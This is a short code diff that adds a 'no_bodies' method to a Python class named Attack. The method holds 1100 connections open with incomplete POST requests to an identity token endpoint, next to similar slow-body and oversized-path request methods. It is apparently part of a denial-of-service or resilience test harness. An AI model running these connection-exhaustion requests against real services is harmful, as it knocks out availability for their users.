@@ -109,6 +109,10 @@ class Attack:
         head = b"POST /identity/v3/auth/tokens HTTP/1.1\r\nHost: a\r\nContent-Length: 65536\r\n\r\n"
         self.hold(700, head + b" " * 60_000, answered=False)
 
+    def no_bodies(self) -> None:
+        head = b"POST /identity/v3/auth/tokens HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n"
+        self.hold(1100, head, answered=False)
+
     def access_rules(self) -> None:
         path = "/compute/v2.1/servers/" + "a" * 2000
         self.repeat(4, f"GET {path} HTTP/1.1\r\nHost: a\r\nX-Auth-Token: {self.token}\r\n\r\n".encode())
